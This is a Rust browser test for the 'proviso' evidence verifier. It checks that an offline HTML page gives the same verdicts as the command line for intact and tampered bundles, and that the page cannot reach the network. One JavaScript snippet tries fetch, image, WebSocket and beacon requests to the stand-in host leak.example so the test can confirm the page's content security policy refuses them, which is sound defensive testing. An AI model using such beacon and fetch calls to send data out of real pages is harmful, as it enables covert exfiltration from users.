//! The page that is handed out says of a bundle what `proviso verify` says, in real browsers, opened as a
//! file, and nothing leaves.

#![expect(clippy::unwrap_used, reason = "a test ends by panicking")]

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::Command;

use proviso_report::Fact;
use proviso_rules::ENGINE;
use proviso_tests::browser::{Chromium, Firefox};
use proviso_tests::extension::Extension;
use proviso_tests::held::wait_for_record;
use proviso_tests::machine::{Account, Machine};
use proviso_tests::order::{self, Terms};
use proviso_tests::process::output;
use proviso_tests::programs::{handed_out, program};
use proviso_tests::scene::{PERSON, Scene};
use proviso_tests::tamper::Memory;
use proviso_tests::wait::{PATIENCE, until};
use serde_json::Value;
use zip::write::SimpleFileOptions;

const VISITED: &str = "https://kept-known.example/page";
const LIST: &str = "kept-known.example\n";

/// The page as text, line for line as the command prints it.
const SAID: &str = r"(() => {
    const text = (element) => element.textContent;
    const all = (from, what) => Array.from(from.querySelectorAll(what));
    const lines = all(document, '#about p').flatMap((about) => [text(about), '']);
    all(document, '#questions > li').forEach((question, at) => {
        lines.push(`${at + 1}. ${text(question.querySelector('h3'))}`);
        for (const said of all(question, '.said')) {
            lines.push(`${text(said.querySelector('.word')).padEnd(11)}  ${text(said.querySelector('.what'))}`);
            lines.push(...all(said, '.why').map((why) => `             ${text(why)}`));
        }
        lines.push('');
    });
    const keys = all(document, '#keys .key');
    if (keys.length > 0) {
        lines.push(text(document.querySelector('#keys p')), '', ...keys.map((key) => `  ${text(key)}`), '');
    }
    return [...lines, text(document.querySelector('#verdict')), ''].join('\n');
})()";

/// Is there a result, and no check under way?
const DONE: &str =
    "document.querySelector('#working').hidden && !document.querySelector('#result').hidden";

/// Ways out that a page has, tried from within until the browser has refused each.
const WAYS_OUT: &str = r"new Promise((take) => {
    const refused = [];
    document.addEventListener('securitypolicyviolation', (event) => {
        refused.push(event.effectiveDirective);
        if (refused.length === 4) {
            take(refused.sort().join(' '));
        }
    });
    fetch('https://leak.example/fetch').catch(() => {});
    new Image().src = 'https://leak.example/image';
    try {
        new WebSocket('wss://leak.example/socket');
    } catch {}
    navigator.sendBeacon('https://leak.example/beacon');
})";

/// A bundle with a finding that rests on a list of the collector's, and that list.
struct Made {
    scene: Scene,
    whole: Memory,
    list: PathBuf,
}

fn made() -> Made {
    let scene = Scene::new().unwrap();
    scene.collector.add_person(PERSON).unwrap();
    let folder = scene.dir().join("order");
    // What needs the list can be checked only by whoever is given it.
    let order = order::write_with(&folder, Terms::default(), &order::kept_list(LIST, "")).unwrap();
    std::fs::write(folder.join("lists/kept.domains"), LIST).unwrap();
    scene.signers.sign_as_both(&order).unwrap();
    scene.collector.put_order(PERSON, &order).unwrap();
    let mut computer = scene.enrolled(PERSON).unwrap();
    computer.start_recording().unwrap();
    let mut extension = Extension::start(&computer, "00000000000000f1").unwrap();
    for url in [VISITED, "https://www.facebook.com/groups"] {
        extension.visit(url, PATIENCE).unwrap();
    }
    extension.all_taken(PATIENCE).unwrap();
    computer.stop().unwrap();
    wait_for_record(&scene.collector, "the end of the agent", |held| {
        matches!(held.record.fact, Fact::AgentStopped(_))
    })
    .unwrap();
    let bundle = scene.dir().join("exported");
    scene.collector.export(PERSON, &bundle).unwrap();
    Made {
        list: folder.join("lists/kept.domains"),
        whole: Memory::read(&bundle).unwrap(),
        scene,
    }
}

/// The exit code and what the command prints.
fn command(bundle: &Path, list: Option<&Path>) -> (Option<i32>, String) {
    let mut verify = Command::new(program("proviso").unwrap());
    verify.arg("verify").arg(bundle);
    if let Some(list) = list {
        // By the name that the page knows.
        verify.current_dir(list.parent().unwrap());
        verify.arg("--list").arg(list.file_name().unwrap());
    }
    let said = output(&mut verify).unwrap();
    (said.status.code(), String::from_utf8(said.stdout).unwrap())
}

/// The page, where an account can open it.
fn page_for(account: &Account) -> String {
    let name = "proviso-verify.html";
    std::fs::copy(handed_out(name).unwrap(), account.outside.join(name)).unwrap();
    format!("file://{}", account.home.join(name).display())
}

type HandOver = fn(&mut Chromium, &Path) -> anyhow::Result<()>;

const CHOOSE: HandOver = |browser, folder| browser.choose("#folder", &[folder]);
const DROP: HandOver = |browser, folder| browser.drop_on_page(&[folder]);

struct Desk {
    browser: Chromium,
    account: Account,
    _machine: Machine,
}

impl Desk {
    /// What the page says of a bundle that is handed over as a folder.
    fn says(
        &mut self,
        name: &str,
        hand_over: HandOver,
        bundle: &Memory,
        list: Option<&Path>,
    ) -> String {
        bundle.write(&self.account.outside.join(name)).unwrap();
        if let Some(list) = list {
            let own = list.file_name().unwrap();
            std::fs::copy(list, self.account.outside.join(own)).unwrap();
            self.browser
                .choose("#lists", &[&self.account.home.join(own)])
                .unwrap();
        }
        hand_over(&mut self.browser, &self.account.home.join(name)).unwrap();
        let checked = format!("Checked the folder {name}: {} files", bundle.0.len());
        until(&checked, PATIENCE, || {
            let checked = self
                .browser
                .eval("document.querySelector('#measured').textContent")?
                .as_str()
                .unwrap_or_default()
                .starts_with(&checked);
            Ok((checked && self.browser.eval(DONE)? == true).then_some(()))
        })
        .unwrap();
        text(&self.browser.eval(SAID).unwrap())
    }
}

fn text(value: &Value) -> String {
    value.as_str().unwrap().to_owned()
}

#[test]
fn chromium_says_what_the_command_says_and_sends_nothing() {
    let made = made();
    let machine = Machine::new(&made.scene.dir().join("desk")).unwrap();
    let account = machine.add_account("expert").unwrap();
    let page = page_for(&account);
    let mut browser = Chromium::start(&machine, &account, &made.scene.sites).unwrap();
    browser.note_requests().unwrap();
    browser.open(&page).unwrap();
    browser.wait_for(ENGINE, PATIENCE).unwrap();
    let mut desk = Desk {
        browser,
        account,
        _machine: machine,
    };

    let mut bent = made.whole.clone();
    bent.0.get_mut("data/findings.jsonl").unwrap().push(b'\n');
    let mut incomplete = made.whole.clone();
    incomplete.0.retain(|path, _| !path.ends_with("put.txt"));
    let list = Some(made.list.as_path());
    for (name, hand_over, bundle, list, code, verdict) in [
        (
            "unchecked",
            CHOOSE,
            &made.whole,
            None,
            2,
            "COULD NOT CHECK: ",
        ),
        ("bent", DROP, &bent, None, 1, "EVIDENCE FAILS: "),
        (
            "incomplete",
            CHOOSE,
            &incomplete,
            None,
            1,
            "EVIDENCE FAILS: ",
        ),
        (
            "mended",
            CHOOSE,
            &bent.mended(),
            None,
            1,
            "EVIDENCE FAILS: ",
        ),
        ("good", DROP, &made.whole, list, 0, "VERIFIED: "),
    ] {
        let page = desk.says(name, hand_over, bundle, list);
        let (ended, command) = command(&desk.account.outside.join(name), list);
        assert_eq!(ended, Some(code), "{command}");
        assert_eq!(page, command, "{name}");
        assert!(page.contains(&format!("\n{verdict}")), "{page}");
        assert_eq!(
            page.to_lowercase().contains("verified"),
            code == 0,
            "{page}"
        );
    }

    let refused = desk.browser.eval(WAYS_OUT).unwrap();
    assert_eq!(refused, "connect-src connect-src connect-src img-src");
    let asked = desk.browser.requests();
    assert!(
        asked.iter().any(|url| url.starts_with("blob:")),
        "{asked:?}"
    );
    for url in asked {
        let near = ["file:///", "blob:", "https://leak.example/"];
        assert!(near.iter().any(|near| url.starts_with(near)), "{url}");
    }
    let sent = made.scene.sites.asked();
    assert!(
        !sent.iter().any(|asked| asked.host.contains("leak.example")),
        "{sent:?}"
    );
}

#[test]
fn firefox_says_what_the_command_says_of_a_zip_file() {
    let made = made();
    let machine = Machine::new(&made.scene.dir().join("desk")).unwrap();
    let account = machine.add_account("expert").unwrap();
    let page = page_for(&account);
    let mut zip =
        zip::ZipWriter::new(std::fs::File::create(account.outside.join("b.zip")).unwrap());
    for (path, bytes) in &made.whole.0 {
        let options = SimpleFileOptions::default().large_file(true);
        zip.start_file(format!("bundle/{path}"), options).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap();
    let bundle = made.scene.dir().join("bundle");
    made.whole.write(&bundle).unwrap();

    let mut browser = Firefox::start(&machine, &account, &made.scene.sites).unwrap();
    browser.open(&page).unwrap();
    browser.choose("#zip", &account.home.join("b.zip")).unwrap();
    until("the page to come to its end", PATIENCE, || {
        Ok((browser.eval(DONE)? == true).then_some(()))
    })
    .unwrap();
    let (code, command) = command(&bundle, None);
    assert_eq!(code, Some(2));
    assert_eq!(text(&browser.eval(SAID).unwrap()), command);
}
